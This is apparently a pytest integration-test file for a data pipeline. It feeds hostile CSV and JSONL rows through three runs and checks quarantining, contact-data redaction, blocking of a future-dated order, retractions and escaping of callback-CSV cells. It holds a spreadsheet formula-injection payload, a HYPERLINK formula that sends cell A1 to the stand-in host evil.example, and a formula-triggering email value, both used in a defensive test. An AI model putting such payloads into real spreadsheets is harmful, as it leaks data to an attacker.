"""Hostile files that used to get through, from the landing folder to the published snapshot.

One landing folder (the hand-written world of test_own_data plus the hostile rows below)
goes through the pipeline three times:
  run 1  blocked: the order dated 2099 fails the orders suite (its share is judged from
         one row here, FLYWHEEL_GATE_ORDERS_MIN_ROWS_FOR_SHARE=1);
  run 2  nothing changed: publishes, without the 2099 order (its verdict holds);
  run 3  a retraction file removes order O2: publishes without it.
Each test below checks one kind of hostile input against what those runs left.

Revenue by hand (April; May is O4 = 200 throughout, O3 is cancelled):
  O1: world lines 250; hostile line 3 has quantity "2.5" -> quarantined, not 3 x 10
  O2: world line 100; hostile line 2 ("2"; "02" and "2.0" are the same key -> quarantined)
      1 x 7; line 3 overflows the money type -> quarantined; line 4 (an SKU that looks
      like digits) 1 x 3. O2 = 110, April = 360, cogs 140 + 60 + 1 + 1 = 202.
  After run 3 (O2 retracted): April = 250, cogs 140.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import shutil
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from orchestration.cli import next_steps
from orchestration.lib import contact_data
from orchestration.lib.settings import load_settings
from tests.integration.pipeline_helpers import run_pipeline
from tests.integration.test_own_data import WORLD, write_feed

APR, MAY = dt.date(2026, 4, 1), dt.date(2026, 5, 1)
PHONE = "+7 912 345-67-89"
HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/?d="&A1,"details")'


def hostile_landing(landing: Path) -> None:
    world = {feed: (header, [list(r) for r in rows]) for feed, (header, rows) in WORLD.items()}
    leads = world["leads"][1]
    leads[1][7] = f"asked not to call again: {PHONE}"  # L2 disqualified_reason
    world["customers"][1][2][6] = "Volga, tel +7 912 345 67 89"  # C3 region
    world["marketing_spend"][1].append(
        ["2026-04-03", "paid_search", "promo anna.k@example.com", "10", "100", "5"]
    )
    survey = world["survey_answers"]
    h = survey[0]
    answer = dict.fromkeys(h, "")
    survey[1].extend(
        [
            [
                *{
                    **answer,
                    "answer_id": "A9",
                    "answered_at": "2026-05-14T10:00:00",
                    "survey": "csi",
                    "question": "store_visit",
                    "score": "2.5",
                    "store_id": "S01",
                }.values()
            ],
            [
                *{
                    **answer,
                    "answer_id": "A10",
                    "answered_at": "2026-05-14T10:00:00",
                    "survey": "nps",
                    "question": "recommend",
                    "score": "6.5",
                }.values()
            ],
            # A low CSI answer of the newest day: the callback list's, with hostile text
            [
                *{
                    **answer,
                    "answer_id": "A11",
                    "answered_at": "2026-05-14T11:00:00",
                    "survey": "csi",
                    "question": "store_visit",
                    "score": "1",
                    "store_id": "S01",
                    "email": "+cmd@evil.example",
                    "comment": HOSTILE_COMMENT,
                }.values()
            ],
        ]
    )
    for feed, (header, rows) in world.items():
        write_feed(landing, feed, f"{feed}_2026.csv", header, rows)
    items_header = WORLD["order_items"][0]
    write_feed(
        landing,
        "order_items",
        "order_items_2026_hostile.csv",
        items_header,
        [
            ["O1", "3", "C", "hats", "2.5", "10", "5"],
            ["O2", "2", "D", "socks", "1", "7", "1"],
            ["O2", "02", "D", "socks", "5", "7", "1"],
            ["O2", "2.0", "D", "socks", "9", "7", "1"],
            ["O2", "3", "E", "gold", "1000000", "100000000", "1"],
            ["O2", "4", "4607-0017-7001-9", "gifts", "1", "3", "1"],
            ["O404", "1", "A", "shoes", "1", "1000", "1"],  # no such order
            ["O9", "1", "A", "shoes", "1", "5000", "1"],  # the 2099 order's line
        ],
    )
    write_feed(
        landing,
        "orders",
        "orders_2026_hostile.csv",
        WORLD["orders"][0],
        [
            ["O9", "C1", "2099-01-01T10:00:00", "paid", "web", "", "courier", "", "", ""],
        ],
    )
    # No header row: the first line is a customer with an email and a phone.
    (landing / "customers" / "customers_noheader.csv").write_text(
        "C9,2026-04-01T10:00:00,,zoe.x@example.com,+7 999 111-22-33,,North\n"
    )
    # JSON Lines with a blank line, then a broken line holding an email
    (landing / "survey_answers" / "extra.jsonl").write_text(
        json.dumps(
            {
                "answer_id": "J1",
                "answered_at": "2026-04-25T10:00:00",
                "survey": "nps",
                "question": "recommend",
                "score": 10,
            }
        )
        + "\n\n"
        + '{"answer_id": "J2", "comment": "mail me at j2@example.com"\n'
    )


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """The three runs, in an environment of their own (module scope)."""
    root = tmp_path_factory.mktemp("hostile")
    landing = root / "landing"
    hostile_landing(landing)
    env = {
        "FLYWHEEL_DATA_DIR": str(root / "data"),
        "DAGSTER_HOME": str(root / "dagster_home"),
        "FLYWHEEL_PII_KEY": "test-key-not-secret",
        "FLYWHEEL_LANDING_DIR": str(landing),
        "FLYWHEEL_GATE_NOW": "2026-05-16T06:00:00",
        "FLYWHEEL_GATE_ORDERS_MIN_ROWS_FOR_SHARE": "1",
    }
    (root / "dagster_home").mkdir()
    with pytest.MonkeyPatch.context() as mp:
        for key, value in env.items():
            mp.setenv(key, value)
        s = load_settings()
        out = {"settings": s, "landing": landing}
        # one in-memory instance for the three runs: their event logs are read below
        instance = dg.DagsterInstance.ephemeral()
        out["run1"] = run_pipeline(expect_success=False, instance=instance)
        with duckdb.connect(str(s.warehouse_path), read_only=True) as wh:
            out["steps1"] = next_steps(wh)
        out["published1"] = s.published_path.exists()
        out["run2"] = run_pipeline(instance=instance)
        out["logs"] = [
            entry.user_message or ""
            for result in (out["run1"], out["run2"])
            for entry in instance.all_logs(result.run_id)
        ]
        out["snapshot2"] = snapshot(s)
        callbacks = sorted(s.restricted_path.parent.glob("callbacks_*.csv"))
        out["callbacks"] = [c.read_text(encoding="utf-8") for c in callbacks]
        shutil.copy(s.restricted_path, root / "restricted_after_run2.duckdb")
        out["restricted2"] = root / "restricted_after_run2.duckdb"
        write_feed(landing, "orders", "orders_2026-06-01_retract.csv", ["order_id"], [["O2"]])
        out["run3"] = run_pipeline(instance=instance)
        out["snapshot3"] = snapshot(s)
        yield out


def snapshot(settings) -> dict:
    """What BI sees: a few figures and every text value of every published table."""
    with duckdb.connect(str(settings.published_path), read_only=True) as con:
        month = {
            (m, p): v
            for m, p, v in con.execute(
                "select metric, period_start, value from marts.metric_values"
                " where grain = 'month' and dimension = 'all'"
            ).fetchall()
        }
        periods = {
            r[0]
            for r in con.execute("select distinct period_start from marts.metric_values").fetchall()
        }
        texts = []
        for table, column in con.execute(
            "select table_name, column_name from information_schema.columns"
            " where table_schema = 'marts' and data_type = 'VARCHAR'"
        ).fetchall():
            texts += [
                (table, column, v)
                for (v,) in con.execute(
                    f'select distinct "{column}" from marts."{table}" where "{column}" is not null'
                ).fetchall()
            ]
        info = {
            r[0]: r[1:]
            for r in con.execute(
                "select feed, orphan_rows, raw_rows from marts.publish_info"
            ).fetchall()
        }
        orders = {r[0] for r in con.execute("select order_id from marts.fct_orders").fetchall()}
        skus = {r[0] for r in con.execute("select sku from marts.fct_order_items").fetchall()}
    return {
        "month": month,
        "periods": periods,
        "texts": texts,
        "info": info,
        "orders": orders,
        "skus": skus,
    }


def test_1_no_rounding_from_csv_jsonl_or_parquet(runs):
    snap = runs["snapshot2"]["month"]
    # 360 = 250 + 110: O1's "2.5" hats line did not load as 3 x 10 = 30
    assert snap[("revenue", APR)] == pytest.approx(360)
    assert snap[("cogs", APR)] == pytest.approx(202)
    # The survey's "6.5" (would load as a passive 7) and CSI "2.5" (as 3) are out. April
    # NPS: the world's 10, 10, 3, 8 and the JSONL's J1 10: promoters 3, detractor 1 of 5
    # -> 100 x (3 - 1) / 5 = 40
    assert snap[("nps", APR)] == pytest.approx(40.0)
    assert ("nps", MAY) not in snap  # A10 was the only May NPS answer
    with duckdb.connect(str(runs["settings"].warehouse_path), read_only=True) as wh:
        wrong = wh.execute(
            "select path, line, details from meta.quarantine where rule = 'wrong_type' order by 1, 2"
        ).fetchall()
    assert wrong == [
        ("order_items/order_items_2026_hostile.csv", 2, "quantity = 2.5 is not a whole number"),
        ("survey_answers/survey_answers_2026.csv", 8, "score = 2.5 is not a whole number"),
        ("survey_answers/survey_answers_2026.csv", 9, "score = 6.5 is not a whole number"),
    ]


def test_2_contact_data_in_free_text_is_never_published(runs):
    texts = runs["snapshot2"]["texts"]
    found = [(t, c, v) for t, c, v in texts if contact_data.contains_contact_data(v)]
    assert found == []
    for needle in ("912 345", "345-67-89", "anna.k@", "zoe.x@", "j2@"):
        assert not [(t, c) for t, c, v in texts if needle in v], needle
    values = {v for _, _, v in texts}
    assert "asked not to call again: [phone redacted]" in values
    assert "Volga, tel [phone redacted]" in values
    assert "promo [email redacted]" in values
    # The Parquet copy too
    parquet = runs["settings"].published_path.parent / "parquet"
    con = duckdb.connect()
    for f in parquet.glob("*.parquet"):
        rel = con.execute("select * from read_parquet($p)", {"p": str(f)}).fetchall()
        assert "912 345" not in repr(rel), f.name


def test_3_callback_csv_cells_cannot_run_as_formulas(runs):
    assert runs["callbacks"], "no callback file was written"
    rows = list(csv.DictReader(runs["callbacks"][-1].splitlines()))
    a11 = next(r for r in rows if r["answer_id"] == "A11")
    assert a11["comment"] == "'" + HOSTILE_COMMENT
    assert a11["email"] == "'+cmd@evil.example"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_4_a_future_order_blocks_once_and_is_never_published(runs):
    assert not runs["run1"].success and not runs["published1"]
    assert any(line.startswith("orders: invalid_share") for line in runs["steps1"])
    snap = runs["snapshot2"]
    assert "O9" not in snap["orders"]
    assert all(p.year < 2099 for p in snap["periods"])
    assert runs["snapshot3"]["periods"] and all(p.year < 2099 for p in runs["snapshot3"]["periods"])


def test_5_rows_that_used_to_block_every_run(runs):
    # run 2 published although the file held "02"/"2.0" keys, an overflowing line,
    # an SKU of digits and dashes and an email in a campaign name
    assert runs["run2"].success
    assert "4607-0017-7001-9" in runs["snapshot2"]["skus"]
    with duckdb.connect(str(runs["settings"].warehouse_path), read_only=True) as wh:
        rules = wh.execute(
            "select line, rule from meta.quarantine where path = 'order_items/order_items_2026_hostile.csv'"
            " order by line"
        ).fetchall()
    assert rules == [
        (2, "wrong_type"),
        (4, "duplicate_key_in_file"),
        (5, "duplicate_key_in_file"),
        (6, "out_of_range"),
    ]


def test_6_order_items_of_unknown_or_held_orders_are_counted(runs):
    # O404 has no order; O9's order is held by its verdict: 2 items not in the marts
    assert runs["snapshot2"]["info"]["order_items"][0] == 2
    # after O2 is retracted its 3 loaded lines (world 1, hostile 2 and 4) join them
    assert runs["snapshot3"]["info"]["order_items"][0] == 5


def test_7_a_headerless_file_never_echoes_its_first_line(runs):
    with duckdb.connect(str(runs["settings"].warehouse_path), read_only=True) as wh:
        reason, extra = wh.execute(
            "select reason, extra_columns from meta.files where path = 'customers/customers_noheader.csv'"
        ).fetchone()
    assert "does not look like a header row" in reason and extra is None
    logs = runs["logs"]
    assert any("customers_noheader.csv" in m for m in logs)  # the file is named, its data not
    for needle in ("zoe.x", "111-22-33", "C9,2026"):
        assert not [m for m in logs if needle in m], needle


def test_8_a_retraction_file_removes_the_row_from_the_snapshot(runs):
    before, after = runs["snapshot2"], runs["snapshot3"]
    assert "O2" in before["orders"] and "O2" not in after["orders"]
    # April without O2: 360 - 110 = 250; cogs 202 - 62 = 140
    assert after["month"][("revenue", APR)] == pytest.approx(250)
    assert after["month"][("cogs", APR)] == pytest.approx(140)
    assert after["month"][("revenue", MAY)] == pytest.approx(200)
    assert after["info"]["orders"][1] == before["info"]["orders"][1] - 1
    with duckdb.connect(str(runs["settings"].warehouse_path), read_only=True) as wh:
        row = wh.execute(
            "select outcome, rows_in, rows_loaded, rows_quarantined, rows_retracted from meta.files"
            " where path = 'orders/orders_2026-06-01_retract.csv'"
        ).fetchone()
        pending = wh.execute("select count(*) from meta.full_refresh_requests").fetchone()[0]
    assert row == ("loaded", 1, 0, 0, 1)
    assert pending == 0  # the full refresh ran and cleared its request


def test_9_jsonl_line_numbers_and_raw_text_of_bad_lines(runs):
    with duckdb.connect(str(runs["restricted2"]), read_only=True) as con:
        rows = con.execute(
            "select line, rule, raw_values from restricted.quarantine"
            " where path = 'survey_answers/extra.jsonl' order by line"
        ).fetchall()
    # line 1 J1 loads, line 2 is blank, line 3 is broken
    assert [(line, rule) for line, rule, _ in rows] == [(3, "malformed_line")]
    assert json.loads(rows[0][2]) == {
        "_line_text": '{"answer_id": "J2", "comment": "mail me at j2@example.com"'
    }


def test_10_files_holding_contact_data_are_owner_only(runs):
    s = runs["settings"]
    assert os.stat(s.warehouse_path).st_mode & 0o777 == 0o600
    assert os.stat(s.restricted_path).st_mode & 0o777 == 0o600
    for callback in s.restricted_path.parent.glob("callbacks_*.csv"):
        assert os.stat(callback).st_mode & 0o777 == 0o600
